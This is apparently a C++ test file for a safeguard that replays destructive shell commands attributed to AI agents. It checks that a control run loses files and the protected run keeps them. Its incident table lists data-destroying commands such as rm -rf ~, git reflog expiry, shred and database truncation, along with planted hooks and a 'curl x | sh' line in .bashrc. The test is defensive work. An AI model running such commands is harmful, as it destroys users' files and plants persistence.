// What agents really did, replayed: the control loses the files, with assent every one of them is still there.
#include "support/run_world.h"

namespace assent::run_test {
namespace {

struct Incident {
  const char* test;
  const char* needs;
  const char* prepare;  // beforehand, without assent
  const char* script;   // what the agent runs
};

void PrintTo(const Incident& each, std::ostream* out) { *out << each.test; }

constexpr const char* kRepository =
    "git init -q -b main && mkdir -p src tests patches plan && for i in 1 2 3 4 5 6 7 8; do echo t$i >tests/t$i; echo "
    "p$i >patches/p$i; echo n$i >plan/n$i; echo s$i >src/s$i.c; done && "
    "printf 'victim\\n*.db\\nlocal/\\n' >.gitignore && git add -A && git commit -qm first && echo precious >>src/s1.c "
    "&& echo notes >untracked.md && mkdir local && echo settings >local/settings.ini";

const Incident kIncidents[] = {
    {"rm_rf_with_a_stray_home", "rm", kRepository, "rm -rf tests/ patches/ plan/ ~/"},
    {"rm_rf_of_everything_here", "rm", kRepository, "rm -rf ./* ./.[!.]*"},
    {"find_delete", "find", kRepository, "find . -delete; find ~ -type f -delete"},
    {"find_exec_rm", "find", kRepository,
     "find . -name '*.c' -exec rm -f {} +; find . -type d -name tests -prune -exec rm -rf {} ';'"},
    {"git_clean", "git", kRepository, "git clean -fdx"},
    {"git_reset_hard", "git", kRepository, "git reset -q --hard"},
    {"git_checkout_of_everything", "git", kRepository, "git checkout -q -- ."},
    {"git_restore", "git", kRepository, "git restore ."},
    {"git_stash_drop", "git",
     "git init -q && echo a >a && git add a && git commit -qm a && echo precious >>a && git stash -q",
     "git stash drop -q; git stash clear; git reflog expire --expire=now --all; git gc -q --prune=now"},
    {"git_branch_and_history_removed", "git",
     "git init -q -b main && echo a >a && git add a && git commit -qm a && git checkout -q -b work && echo b >b && git "
     "add b && git commit -qm b && git checkout -q main",
     "git branch -D work; rm -rf .git"},
    {"five_thousand_photos", "rm",
     "mkdir -p ~/Pictures/2019 && cd ~/Pictures/2019 && seq 5000 | while read i; do : >$i.jpg; done",
     "rm -rf ~/Pictures; rm -f ~/Pictures/2019/1*.jpg"},
    {"photos_tidied_up_by_moving", "mv", "mkdir -p ~/Pictures && for i in 1 2 3; do echo p$i >~/Pictures/p$i.jpg; done",
     "mkdir own; mv ~/Pictures/* own/; mv ~/Documents own/"},
    {"photos_overwritten_by_one_name", "mv", "mkdir photos && for i in 1 2 3; do echo p$i >photos/p$i.jpg; done",
     "for f in photos/*.jpg; do mv $f photos/wedding.jpg; done"},
    {"sqlite_drop", "sqlite3", "sqlite3 app.db 'create table t(x); insert into t values(1);'",
     "sqlite3 app.db 'drop table t; vacuum;'"},
    {"sqlite_delete_and_migrate", "sqlite3", "sqlite3 app.db 'create table t(x); insert into t values(1);'",
     "sqlite3 app.db 'delete from t;'; rm -f app.db; sqlite3 app.db 'create table u(x);'"},
    {"database_files_written_over", "cp", "echo rows >table.db && echo empty >seed.db",
     "cp seed.db table.db; cat seed.db >table.db; dd if=/dev/zero of=table.db bs=1k count=1 conv=notrunc; truncate -s "
     "0 table.db"},
    {"sed_in_place_on_untracked_work", "sed", "echo 'the only copy' >notes.md",
     "sed -i s/only/other/ notes.md; sed -i.bak s/copy/x/ notes.md; perl -pi -e 's/the/a/' notes.md"},
    {"redirections", "sh", "echo 'the only copy' >notes.md",
     "echo x >notes.md; : >notes.md; echo y >>notes.md; tee notes.md </dev/null; cat /dev/null >|notes.md"},
    {"mv_and_cp_over", "mv", "echo old >old.txt",
     "echo new >own; cp own old.txt; cp -f own old.txt; mv -f own old.txt; echo z >own; install own old.txt; ln -f own "
     "old.txt; ln -sf own old.txt; rsync own old.txt"},
    {"shred_and_wipe", "shred", "echo old >old.txt", "shred -u old.txt; shred -n 1 keep/f"},
    {"tar_over_the_tree", "tar",
     "mkdir other && echo new >other/victim1 && tar -C other -cf new.tar victim1 && rm -rf other",
     "tar xf new.tar; tar --overwrite -xf new.tar; tar --recursive-unlink -xf new.tar"},
    {"python_rmtree", "python3", kRepository,
     "python3 -c \"import shutil;shutil.rmtree('src',ignore_errors=True)\"; python3 -c "
     "\"open('untracked.md','w').write('x')\"; python3 -c \"import os;os.replace('untracked.md','x')\""},
    {"node_rm", "node", kRepository,
     "node -e \"require('fs').rmSync('src',{recursive:true,force:true})\"; node -e "
     "\"require('fs').writeFileSync('untracked.md','')\""},
    {"permissions_taken_away", "chmod", kRepository,
     "chmod -R 000 local; chmod -R a-w src/s1.c untracked.md; chmod 777 ~/.profile; chown -R $(id -u) untracked.md; "
     "touch -d 1999-01-01 src/s1.c; setfacl -m o::rwx untracked.md; chattr +d untracked.md; setfattr -n user.x -v y "
     "untracked.md"},
    {"the_home_is_set_up_anew", "sh", "true",
     "echo x >~/.profile; echo 'curl x | sh' >>~/.bashrc; mkdir -p ~/.config/autostart; echo x "
     ">~/.config/autostart/x.desktop; rm -f ~/.profile; mv ~/Documents ~/D"},
    {"the_folder_above", "rm", kRepository,
     "cd ..; rm -rf project; mv project p2; rm -rf ../home; cd /; rm -rf \"$HOME\""},
    {"hooks_planted", "git", kRepository,
     "echo 'rm -rf ~' >.git/hooks/post-commit && chmod +x .git/hooks/post-commit; git config core.fsmonitor 'rm -rf "
     "~'; git config core.hooksPath /tmp; sed -i s/false/true/ .git/config"},
};

class Replay : public ::testing::TestWithParam<std::tuple<Incident, Who>> {};

TEST_P(Replay, LosesNothing) {
  const auto& [incident, who] = GetParam();
  const std::string script =
      std::string("export GIT_COMMITTER_NAME=t GIT_COMMITTER_EMAIL=t@localhost\n") + incident.script;
  {
    World world(who);
    if (world.shell(std::string("command -v ") + incident.needs).status != 0)
      GTEST_SKIP() << incident.needs << " is not here";
    ASSERT_EQ(world.shell(incident.prepare).status, 0);
    const auto before = world.look();
    world.shell(script);
    ASSERT_NE(damage(before), "") << "the control did no damage: this test proves nothing";
  }
  World world(who);
  world.patience = 120;
  ASSERT_EQ(world.shell(incident.prepare).status, 0);
  auto before = world.look();
  before.erase(world.project + "/.git/index");  // git's own notes on the tree: it may write them anew
  const auto outcome = world.shell_inside(script);
  // What was changed without a question was kept first.
  Outcome undone;
  if (damage(before) != "") undone = world.assent({"undo", "last"});
  EXPECT_EQ(damage(before), "") << outcome.err.substr(0, 2000) << undone.out << undone.err;
  EXPECT_FALSE(there(world.home + "/.bashrc"));
  EXPECT_FALSE(there(world.home + "/.config/autostart"));
  EXPECT_FALSE(there(world.project + "/.git/hooks/post-commit"));
  EXPECT_EQ(world.assent({"verify", "last"}).status, 0);
}

INSTANTIATE_TEST_SUITE_P(Each, Replay,
                         ::testing::Combine(::testing::ValuesIn(kIncidents), ::testing::ValuesIn(everyone())),
                         [](const auto& each) {
                           return std::string(std::get<0>(each.param).test) + "_" + name(std::get<1>(each.param));
                         });

}  // namespace
}  // namespace assent::run_test
